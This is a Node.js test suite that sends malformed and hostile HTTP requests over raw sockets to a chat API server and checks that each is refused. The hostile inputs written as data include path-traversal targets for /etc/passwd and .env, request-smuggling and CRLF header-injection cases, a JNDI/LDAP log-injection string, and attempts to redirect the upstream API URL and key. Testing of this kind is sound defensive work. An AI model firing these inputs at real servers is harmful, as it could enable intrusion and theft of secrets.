// Bad requests, row by row. The numbers are those of the catalogue of bad inputs that the product is held to; rows about
// accounts, stored conversations and uploads are not served yet. Bytes go over raw sockets, so that nothing is mended
// on the way. After every row the same process must still answer.
import assert from 'node:assert/strict';
import net from 'node:net';
import { after, afterEach, before, describe, it } from 'node:test';
import { chat, openaiKey, raw, request, residentKib, sleep, startFake, startServer, stream, wire } from './server.mjs';

let fake;
let server;
before(async () => {
  fake = await startFake(['--chunks', '1']);
  server = await startServer({ fake, env: { DEFAULT_MODEL: 'gpt-4o' } });
});
after(async () => {
  await server?.stop();
  await fake?.stop();
});
afterEach(async () => {
  assert.equal((await request(server, 'GET', '/api/health')).status, 200, 'the server must live on');
});

const json = { 'Content-Type': 'application/json' };
const both = ['/api/chat', '/api/chat/stream'];

// Sends text as the body to both chat routes and checks the status.
async function body(text, status, error) {
  for (const target of both) {
    const reply = await request(server, 'POST', target, { body: Buffer.from(text), headers: json });
    const said = typeof text === 'string' ? text.slice(0, 80) : text;
    assert.equal(reply.status, status, `${target} ${said}: ${reply.text.slice(0, 200)}`);
    if (status >= 400) assert.equal(typeof reply.json().error, 'string', 'an error is JSON');
    if (error) assert.match(reply.json().error, error);
  }
}
const fields = (object, status, error) => body(JSON.stringify(object), status, error);

// A head sent as it is. `expected`: a status or several; `closed`: the connection must be closed by the server.
async function head(lines, expected, { closed = true, rest = '' } = {}) {
  const reply = await raw(server, `${lines.join('\r\n')}\r\n\r\n${rest}`);
  const wanted = [expected].flat();
  assert.ok(wanted.includes(reply.responses[0]?.status), `${JSON.stringify(lines).slice(0, 200)}: wanted ${wanted}, got ${JSON.stringify(reply.text.slice(0, 300))}`);
  if (closed) assert.ok(reply.closed, `${JSON.stringify(lines).slice(0, 200)}: the connection stays open`);
  return reply;
}
const host = () => `Host: localhost:${server.port}`;
const get = (...more) => ['GET /api/health HTTP/1.1', host(), ...more];
const postHead = (...more) => ['POST /api/chat HTTP/1.1', host(), 'Content-Type: application/json', ...more];

describe('bodies', () => {
  it('1: empty', () => body('', 400));
  it('2: JSON that is no object', async () => { for (const text of ['null', '[]', '"x"', '1']) await body(text, 400); });
  it('3: no message', () => fields({}, 400, /^Message required$/));
  it('4: nothing in the message', async () => { for (const message of ['', ' ', '\n\t ', '\u3000']) await fields({ message }, 400); });
  it('5: a message that is no text', async () => { for (const message of [null, 5, true, [], {}]) await fields({ message }, 400); });
  it('6: 10,000 code points', async () => {
    await fields({ message: 'x'.repeat(10000) }, 200);
    await fields({ message: '😀'.repeat(10000) }, 200);
  });
  it('7: 10,001 code points', () => fields({ message: 'x'.repeat(10001) }, 400, /^Message too long/));
  it('8: one byte more than 1 MiB is refused before it is read', async () => {
    const reply = await raw(server, `${postHead(`Content-Length: ${(1 << 20) + 1}`).join('\r\n')}\r\n\r\n`);
    assert.equal(reply.responses[0]?.status, 413);
    assert.ok(reply.closed && reply.ms < 1000);
  });
  it('9: the same in chunks', async () => {
    const chunk = `10000\r\n${'x'.repeat(65536)}\r\n`;
    const reply = await raw(server, [`${postHead('Transfer-Encoding: chunked').join('\r\n')}\r\n\r\n`, ...Array(17).fill(chunk)]);
    assert.equal(reply.responses[0]?.status ?? (reply.reset && 413), 413);
    assert.ok(reply.closed);
  });
  it('10: a length of 2 GiB', async () => {
    const reply = await head(postHead('Content-Length: 2147483648'), 413, { rest: 'hello' });
    assert.ok(reply.ms < 1000);
  });
  it('11: 500,000 brackets take no memory', async () => {
    const before = residentKib(server.pid);
    await body('['.repeat(500000), 400);
    await body(`{"message":${'['.repeat(500000)}`, 400);
    assert.ok(residentKib(server.pid) - before <= 4096 + 1024, `${residentKib(server.pid) - before} KiB more`);
  });
  it('12: a third of a million empty objects', () => body(`{"message":[${'{},'.repeat(333000)}{}]}`, 400));
  it('13: a key twice', () => body('{"message":"a","message":"b"}', 400));
  it('14: invalid UTF-8', async () => {
    for (const bad of [[0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf5, 0x80, 0x80, 0x80], [0xe2, 0x82]]) {
      await body(Buffer.concat([Buffer.from('{"message":"'), Buffer.from(bad), Buffer.from('"}')]), 400);
    }
  });
  it('15: a lone surrogate', () => body('{"message":"\\ud800"}', 400));
  it('16: NUL in a text', () => body('{"message":"a\\u0000b"}', 400));
  it('17: what is almost JSON', async () => {
    for (const text of ['{"message":"a","max_tokens":1e999}', '{"message":NaN}', '{"message":"a",}', '{"message":"a"/*c*/}', "{'message':'a'}", '\ufeff{"message":"a"}', '{"message":Infinity}']) {
      await body(text, 400);
    }
  });
  it('18: cut or followed by something', async () => {
    await body('{"message":"a"', 400);
    await body('{"message":"a"} x', 400);
    await body('{"message":"a"}{"message":"b"}', 400);
  });
  it('19: 51 items of history', () => fields({ message: 'a', history: Array(51).fill({ role: 'user', content: 'x' }) }, 400, /^Conversation history too long/));
  it('20: a history that is none', async () => {
    for (const history of ['x', {}, 5, [5], ['x'], [null], [{ content: 'x' }], [{ role: 'user' }], [{ role: 'user', content: 5 }], [{ role: 5, content: 'x' }]]) {
      await fields({ message: 'a', history }, 400);
    }
  });
  it('21: roles: the guide\'s system is taken, unknown ones are not', async () => {
    await fields({ message: 'a', history: [{ role: 'system', content: 'x' }] }, 200);
    for (const role of ['tool', 'developer', 'root', 'System', '']) await fields({ message: 'a', history: [{ role, content: 'x' }] }, 400);
  });
  it('22: an item of 100,001 characters', () => fields({ message: 'a', history: [{ role: 'user', content: 'x'.repeat(100001) }] }, 400));
  it('23: an unknown provider', async () => { for (const provider of ['evil', '', 7, '../x', 'OPENAI']) await fields({ message: 'a', provider }, 400); });
  it('24: a known provider without a key', async () => {
    const own = await startServer({ env: { FLASK_ENV: 'testing', OPENAI_API_KEY: openaiKey, OPENAI_BASE_URL: fake.openaiUrl } });
    const reply = await chat(own, { message: 'a', provider: 'claude' });
    assert.equal(reply.status, 503, reply.text);
    assert.equal(reply.json().code, 'provider_unavailable');
    await own.stop();
  });
  it('25: a model name that is none', async () => {
    for (const model of ['../../v1/files', 'gpt-4\r\nX: y', 'x'.repeat(10240), '', ' ', 'a b', 5]) await fields({ message: 'a', model }, 400);
  });
  it('26: max_tokens out of range', async () => { for (const max_tokens of [-1, 0, 1e9, 'x', 1.5]) await fields({ message: 'a', max_tokens }, 400); });
  it('27: temperature out of range', async () => { for (const temperature of [-1, 3, 'hot']) await fields({ message: 'a', temperature }, 400); });
  it('28: base_url, api_key and the like have no effect', async () => {
    const trap = await startFake();
    await fake.reset();
    const evil = { base_url: trap.openaiUrl, api_base: trap.openaiUrl, api_key: 'sk-evil', headers: { 'X-Evil': '1' }, organization: 'org-evil' };
    await fields({ message: 'a', ...evil }, 200);
    assert.equal((await trap.log()).length, 0, 'the request went where the client said');
    for (const sent of await fake.chats()) {
      assert.equal(sent.headers.authorization, `Bearer ${openaiKey}`);
      assert.equal(sent.headers['x-evil'], undefined);
      assert.doesNotMatch(sent.body, /evil/);
    }
    await trap.stop();
  });
  it('29: unknown fields are ignored', () => fields({ message: 'a', colour: 'green', conversation_id: null, nested: { a: [1, 2] } }, 200));
});

describe('types and methods', () => {
  it('30: other content types', async () => {
    for (const type of [undefined, 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/jsonp']) {
      const reply = await request(server, 'POST', '/api/chat', { body: '{"message":"a"}', headers: type ? { 'Content-Type': type } : {} });
      assert.equal(reply.status, 415, String(type));
    }
  });
  it('31: another charset', async () => {
    const send = (type) => request(server, 'POST', '/api/chat', { body: '{"message":"a"}', headers: { 'Content-Type': type } });
    assert.equal((await send('application/json; charset=utf-16')).status, 415);
    assert.equal((await send('application/json; charset=UTF-8')).status, 200);
    assert.equal((await send('Application/JSON')).status, 200);
  });
  it('32: a compressed body', async () => {
    const reply = await request(server, 'POST', '/api/chat', { body: Buffer.from('1f8b0800', 'hex'), headers: { ...json, 'Content-Encoding': 'gzip' } });
    assert.equal(reply.status, 415);
  });
  it('33: Accept: text/html gets JSON all the same', async () => {
    const reply = await chat(server, { message: 'a' }, { headers: { Accept: 'text/html' } });
    assert.equal(reply.status, 200);
    assert.match(reply.headers['content-type'], /^application\/json/);
  });
  it('34: the wrong method names the right one', async () => {
    for (const method of ['GET', 'PUT', 'DELETE']) {
      const reply = await request(server, method, '/api/chat');
      assert.equal(reply.status, 405, method);
      assert.match(reply.headers.allow, /POST/);
    }
    const reply = await request(server, 'POST', '/api/health', { body: '{}', headers: json });
    assert.equal(reply.status, 405);
    assert.match(reply.headers.allow, /GET/);
  });
  it('35: unknown methods', async () => {
    await head([`BREW / HTTP/1.1`, host()], 501);
    await head([`get / HTTP/1.1`, host()], [501, 400]);
    await head([`TRACE / HTTP/1.1`, host()], [501, 405]);
    await head([`CONNECT a:443 HTTP/1.1`, host()], [501, 400]);
  });
});

describe('host and origin', () => {
  it('36: no Host, two Hosts', async () => {
    await head(['GET /api/health HTTP/1.1'], 400);
    await head(get(host()), 400);
  });
  it('37: other hosts', async () => {
    for (const name of ['evil.test', `evil.test:${server.port}`, 'localhost:9', `127.0.0.1.evil.test:${server.port}`, `localhost.evil.test:${server.port}`]) {
      await head(['GET /api/health HTTP/1.1', `Host: ${name}`], 421, { closed: false });
    }
    for (const name of ['LOCALHOST', '127.0.0.1', 'localhost', '[::1]']) {
      await head(['GET /api/health HTTP/1.1', `Host: ${name}:${server.port}`], 200, { closed: false });
    }
  });
  it('38: absolute form with another host', () => head(['GET http://evil.test/ HTTP/1.1', host()], [421, 400], { closed: false }));
  it('39: a foreign Origin', async () => {
    for (const target of both) {
      const reply = await request(server, 'POST', target, { body: { message: 'a' }, headers: { Origin: 'https://evil.test' } });
      assert.equal(reply.status, 403);
      assert.deepEqual(Object.keys(reply.headers).filter((name) => name.startsWith('access-control')), []);
    }
    for (const origin of [`http://localhost:${server.port + 1}`, `https://localhost:${server.port}`]) {
      assert.equal((await chat(server, { message: 'a' }, { headers: { Origin: origin } })).status, 403, origin);
    }
    const own = await chat(server, { message: 'a' }, { headers: { Host: `localhost:${server.port}`, Origin: `http://localhost:${server.port}` } });
    assert.equal(own.status, 200);
  });
  it('40: Origin: null', async () => assert.equal((await chat(server, { message: 'a' }, { headers: { Origin: 'null' } })).status, 403));
  it('41: Sec-Fetch-Site from elsewhere', async () => {
    for (const site of ['cross-site', 'same-site']) {
      assert.equal((await chat(server, { message: 'a' }, { headers: { 'Sec-Fetch-Site': site } })).status, 403, site);
    }
    assert.equal((await chat(server, { message: 'a' }, { headers: { 'Sec-Fetch-Site': 'none', Cookie: 'sid=x' } })).status, 403, 'none, with a cookie');
    assert.equal((await chat(server, { message: 'a' }, { headers: { 'Sec-Fetch-Site': 'same-origin' } })).status, 200);
  });
  it('42: a cookie without Origin and Sec-Fetch-Site', async () => {
    assert.equal((await chat(server, { message: 'a' }, { headers: { Cookie: `sid_${server.port}=x` } })).status, 403);
  });
  it('43: a preflight from elsewhere', async () => {
    const reply = await request(server, 'OPTIONS', '/api/chat', { headers: { Origin: 'https://evil.test', 'Access-Control-Request-Method': 'POST' } });
    assert.equal(reply.status, 403);
    assert.deepEqual(Object.keys(reply.headers).filter((name) => name.startsWith('access-control')), []);
  });
});

describe('paths', () => {
  it('50: ways out of the folder', async () => {
    for (const target of ['/../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/..%2f..%2fetc%2fpasswd', '/static/..%5c..%5cetc%5cpasswd', '/assets/../../../etc/passwd', '/./.env', '/assets/%2e%2e/%2e%2e/.env']) {
      const reply = await raw(server, wire('GET', target, server));
      assert.ok([400, 404].includes(reply.responses[0]?.status), `${target}: ${reply.text.slice(0, 100)}`);
      assert.doesNotMatch(reply.text, /root:|CANARY|canary/);
    }
  });
  it('51: //evil.test/ is no redirect', async () => {
    const [reply] = (await raw(server, wire('GET', '//evil.test/', server))).responses;
    assert.ok([404, 400].includes(reply.status), String(reply.status));
    assert.equal(reply.headers.location, undefined);
  });
  it('52: broken percent signs', async () => {
    for (const target of ['/%zz', '/%', '/%0', '/a%00b', '/a%0d%0aX:y']) {
      assert.equal((await raw(server, wire('GET', target, server))).responses[0]?.status, 400, target);
    }
  });
  it('53: a target of 9,000 bytes', () => head([`GET /${'a'.repeat(9000)} HTTP/1.1`, host()], 414));
  it('86: reports of browsers, too many and too large', async () => {
    const headers = { 'Content-Type': 'application/csp-report' };
    const report = (body) => request(server, 'POST', '/api/csp-report', { headers, body });
    assert.equal((await report('x'.repeat(1 << 20))).status, 413);
    const seen = [];
    for (let i = 0; i < 12; ++i) seen.push((await report('{"csp-report":{"effective-directive":"img-src"}}')).status);
    assert.deepEqual(seen, [...Array(10).fill(204), 429, 429]);
    assert.equal((await report('{}')).headers['retry-after'] > 0, true);
  });
  it('88: the places that scanners try', async () => {
    for (const target of ['/.env', '/.git/config', '/data.db', '/backup.zip', '/wp-login.php']) {
      assert.equal((await request(server, 'GET', target, { headers: { Accept: 'text/html' } })).status, 404, target);
    }
    assert.equal((await request(server, 'GET', '/debug', { headers: { Accept: '*/*' } })).status, 404, '/debug');
  });
});

describe('heads', () => {
  it('54: too many, too large', async () => {
    await head(get(...Array.from({ length: 65 }, (_, i) => `X-${i}: y`)), 431);
    await head(get(`X-Big: ${'b'.repeat(9 * 1024)}`), 431);
    await head(get(...Array.from({ length: 5 }, (_, i) => `X-${i}: ${'b'.repeat(3500)}`)), 431);
  });
  it('55: malformed fields', async () => {
    for (const bad of ['X Y: z', ': z', 'nocolon', 'X: a\0b', 'X: a\rb', ' folded: z', 'X : z', 'X: a\r\n b', 'X\t: z', 'X\x80: z']) {
      await head(get(bad), 400);
    }
  });
  it('56: percent-encoded line breaks stay as they are', async () => {
    const reply = await request(server, 'GET', '/api/health', { headers: { 'X-Request-Id': 'a%0d%0aX-Evil: y', 'User-Agent': 'a%0d%0aX-Evil: y' } });
    assert.equal(reply.status, 200);
    assert.equal(reply.headers['x-evil'], undefined);
    assert.doesNotMatch(server.everything(), /^X-Evil: y/m);
  });
  it('57: bare LF', async () => {
    const all = await raw(server, `GET /api/health HTTP/1.1\n${host()}\n\n`);
    assert.ok(all.responses[0]?.status === 400 || all.text.startsWith('HTTP/1.1 400'), all.text.slice(0, 100));
    assert.ok(all.closed);
    const one = await raw(server, `GET /api/health HTTP/1.1\r\n${host()}\nX: y\r\n\r\n`);
    assert.equal(one.responses[0]?.status, 400);
    assert.ok(one.closed);
  });
  it('58: length and chunked together', async () => {
    await head(postHead('Content-Length: 5', 'Transfer-Encoding: chunked'), 400, { rest: '0\r\n\r\n' });
    await head(postHead('Content-Length: 0', 'Transfer-Encoding: chunked'), 400, { rest: '0\r\n\r\n' });
  });
  it('59: other transfer codings', async () => {
    for (const value of ['gzip, chunked', 'xchunked', 'identity', 'chunked, chunked', '\x0bchunked', 'chunked;q=1']) {
      await head(postHead(`Transfer-Encoding: ${value}`), [501, 400], { rest: '0\r\n\r\n' });
    }
    await head(postHead('Transfer-Encoding: chunked', 'Transfer-Encoding: chunked'), [501, 400], { rest: '0\r\n\r\n' });
    await head(postHead('Transfer-Encoding: Chunked'), 200, { closed: false, rest: 'f\r\n{"message":"a"}\r\n0\r\n\r\n' });
  });
  it('60: lengths that are none', async () => {
    for (const value of ['+5', '-5', '5 5', '5, 5', '0x5', '5abc', '', '18446744073709551621']) {
      await head(postHead(`Content-Length: ${value}`), value.startsWith('1844') ? [400, 413] : 400, { rest: 'hello' });
      await head(get(`Content-Length: ${value}`), value.startsWith('1844') ? [400, 413] : 400, { rest: 'hello' });
    }
    await head(postHead('Content-Length: 5', 'Content-Length: 6'), 400, { rest: 'hello' });
  });
  it('61: broken chunks', async () => {
    const cases = ['0x5\r\nhello\r\n0\r\n\r\n', '-1\r\nhello\r\n0\r\n\r\n', '-2\r\nhello\r\n0\r\n\r\n', '00000000000000005\r\nhello\r\n0\r\n\r\n', '5 ;x\r\nhello\r\n0\r\n\r\n',
      '5\nhello\r\n0\r\n\r\n', '5\r\nhelloX\r\n0\r\n\r\n', `5;${'e'.repeat(100000)}\r\nhello\r\n0\r\n\r\n`, `0\r\n${Array.from({ length: 200 }, (_, i) => `T${i}: y\r\n`).join('')}\r\n`, '\r\nhello\r\n0\r\n\r\n', 'g\r\n'];
    for (const chunks of cases) await head(postHead('Transfer-Encoding: chunked'), [400, 413, 431], { rest: chunks });
  });
});

describe('one connection, several requests', () => {
  it('62: GET with a body, then another', async () => {
    const reply = await raw(server, `${get('Content-Length: 5').join('\r\n')}\r\n\r\nhello${wire('GET', '/api/rate-limit', server)}`);
    assert.deepEqual(reply.responses.map((one) => one.status), [200, 200]);
    assert.match(reply.responses[1].body, /per_minute/);
  });
  it('63: three pipelined GETs', async () => {
    const reply = await raw(server, wire('GET', '/api/health', server) + wire('GET', '/api/rate-limit', server) + wire('GET', '/api/nothing', server));
    assert.deepEqual(reply.responses.map((one) => one.status), [200, 200, 404]);
    assert.match(reply.responses[0].body, /healthy/);
    assert.match(reply.responses[1].body, /per_minute/);
  });
  it('64: POST without a length, then another', async () => {
    const reply = await raw(server, `${postHead().join('\r\n')}\r\n\r\n${wire('GET', '/api/health', server)}`);
    assert.ok([400, 411].includes(reply.responses[0]?.status), reply.text.slice(0, 200));
    if (!reply.closed) assert.equal(reply.responses[1]?.status, 200, 'the next request is swallowed');
  });
  it('64: DELETE without a length does not swallow the next', async () => {
    const reply = await raw(server, wire('DELETE', '/api/health', server) + wire('GET', '/api/health', server));
    assert.equal(reply.responses[0].status, 405);
    if (!reply.closed) assert.equal(reply.responses[1]?.status, 200);
  });
  it('65: Expect', async () => {
    const good = '{"message":"a"}';
    const asked = await raw(server, [`${postHead(`Content-Length: ${good.length}`, 'Expect: 100-continue').join('\r\n')}\r\n\r\n`, good], { gap: 100 });
    assert.deepEqual(asked.responses.map((one) => one.status), [100, 200]);
    await head(postHead('Content-Length: 2147483648', 'Expect: 100-continue'), 413);
    await head(postHead('Content-Length: 2', 'Expect: banana'), 417, { closed: false });
  });
  it('65: a body in many pieces', async () => {
    const text = wire('POST', '/api/chat', server, { body: '{"message":"a"}' });
    const reply = await raw(server, text.match(/.{1,7}/gs), { gap: 3 });
    assert.equal(reply.responses[0]?.status, 200);
  });
});

describe('protocols', () => {
  it('66: upgrades are ignored, other versions refused', async () => {
    await head(get('Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'), 200, { closed: false });
    await head(get('Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Key: x', 'Sec-WebSocket-Version: 13'), 200, { closed: false });
    for (const bytes of ['PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', `GET / HTTP/1.1x\r\n${host()}\r\n\r\n`, 'GET /\r\n\r\n', `GET / HTTP/3.0\r\n${host()}\r\n\r\n`, `GET  / HTTP/1.1\r\n${host()}\r\n\r\n`, `GET / HTTP/1.1 \r\n${host()}\r\n\r\n`]) {
      const reply = await raw(server, bytes);
      assert.ok([400, 505].includes(reply.responses[0]?.status), `${JSON.stringify(bytes)}: ${reply.text.slice(0, 100)}`);
      assert.ok(reply.closed);
    }
  });
  it('66: HTTP/1.0 is answered and closed', async () => {
    const reply = await raw(server, `GET /api/health HTTP/1.0\r\n${host()}\r\n\r\n`);
    assert.equal(reply.responses[0]?.status, 200);
    assert.ok(reply.closed);
  });
  it('68: ranges', async () => {
    const page = await request(server, 'GET', '/', { headers: { Range: `bytes=${Array.from({ length: 1500 }, (_, i) => `${i}-${i}`).join(',')}` } });
    assert.ok([200, 416, 431].includes(page.status), String(page.status));
    assert.ok([200, 416].includes((await request(server, 'GET', '/', { headers: { Range: 'bytes=-0' } })).status));
    assert.equal((await request(server, 'GET', '/api/health', { headers: { Range: 'bytes=0-1' } })).status, 200);
  });
  it('69: X-Forwarded-For of every kind, with and without trusted proxies', async () => {
    const trusting = await startServer({ fake, env: { TRUSTED_PROXIES: '127.0.0.1' } });
    for (const at of [server, trusting]) {
      for (const value of [',', '', ' , ,', '1.2.3.4, nonsense', 'x'.repeat(7000), '[::1]:80', '999.1.1.1']) {
        const reply = await raw(at, wire('GET', '/api/health', at, { headers: { 'X-Forwarded-For': value } }));
        assert.equal(reply.responses[0]?.status, 200, JSON.stringify(value.slice(0, 30)));
      }
    }
    await trusting.stop();
  });
  it('70: REMOTE_ADDR as a header means nothing', async () => {
    assert.equal((await request(server, 'GET', '/api/health', { headers: { REMOTE_ADDR: '6.6.6.6' } })).status, 200);
    assert.doesNotMatch(server.everything(), /6\.6\.6\.6/);
  });
  it('71: the limiter cannot be stepped around', async () => {
    const own = await startServer({ fake, env: { FLASK_ENV: 'development' } });
    for (let i = 0; i < 10; ++i) assert.equal((await chat(own, { message: 'a' })).status, 200, `request ${i + 1}`);
    for (const headers of [{}, { 'X-Forwarded-For': '198.51.100.7' }, { Forwarded: 'for=198.51.100.7' }, { 'X-Real-IP': '198.51.100.7' }, { 'User-Agent': 'another' }, { 'X-HTTP-Method-Override': 'GET' }]) {
      const reply = await chat(own, { message: 'a' }, { headers });
      assert.equal(reply.status, 429, JSON.stringify(headers));
      const wait = Number(reply.headers['retry-after']);
      assert.ok(wait >= 1 && wait <= 60, `Retry-After ${wait}`);
    }
    assert.equal((await stream(own, { message: 'a' })).status, 429);
    await own.stop();
  });
  it('85: signs in the user agent do not reach the log as they are', async () => {
    await raw(server, wire('GET', '/api/health', server, { headers: { 'User-Agent': 'x\x1b[2J${jndi:ldap://evil}<script>' } }));
    await sleep(50);
    assert.doesNotMatch(server.everything(), /\x1b\[2J/);
  });
});

// These wait for deadlines, all at the same time.
describe('87: slow and silent clients', { concurrency: 8 }, () => {
  const closedAfter = (text, every) => new Promise((done) => {
    const begun = Date.now();
    const socket = net.connect(server.port, '127.0.0.1', () => {
      if (text) socket.write(text);
    });
    const timer = every && setInterval(() => socket.write('a'), every);
    const end = () => { clearInterval(timer); socket.destroy(); done(Date.now() - begun); };
    socket.on('data', () => {});
    socket.on('close', end);
    socket.on('error', end);
    setTimeout(end, 20000).unref();
  });
  it('silence, a dripping head and a dripping body are closed at about 10 s', async () => {
    const [silent, dripping, body] = await Promise.all([
      closedAfter('', 0),
      closedAfter('GET / HTTP/1.1\r\nX-', 2000),
      closedAfter(`${postHead('Content-Length: 1000').join('\r\n')}\r\n\r\n{`, 2000),
    ]);
    for (const [name, ms] of Object.entries({ silent, dripping, body })) assert.ok(ms > 8000 && ms < 12500, `${name}: ${ms} ms`);
  });
  it('a reader who stops is cut off after 15 s without progress, and the provider with him', async () => {
    const socket = net.connect({ port: server.port, host: '127.0.0.1' });
    socket.on('error', () => {});
    socket.pause();
    socket.write(wire('POST', '/api/chat/stream', server, { body: '{"message":"fake:saturate,tag=stalled"}' }));
    const begun = Date.now();
    for (;;) {
      await sleep(250);
      const sent = (await fake.chats()).find((entry) => entry.body.includes('tag=stalled'));
      if (sent?.closed_early) break;
      assert.ok(Date.now() - begun < 22000, 'the provider still streams after 22 s');
    }
    const took = Date.now() - begun;
    assert.ok(took > 12000, `cut off after ${took} ms`);
    socket.destroy();
  });
  it('67: a TLS hello on the plain port', async () => {
    const reply = await raw(server, Buffer.from('1603010200010001fc0303', 'hex'), { bound: 12000, quiet: 11500 });
    assert.ok(reply.closed);
  });
  it('a comment ping comes at least every 10 s while the model is silent', async () => {
    const seen = [];
    const controller = new AbortController();
    await assert.rejects(stream(server, { message: 'fake:hang_after_head' }, {
      signal: controller.signal,
      onData: (data) => { seen.push(data.toString()); if (seen.join('').includes(': ping')) controller.abort(); },
      timeout: 12000,
    }));
    assert.match(seen.join(''), /^: ping\n\n/m);
  });
});
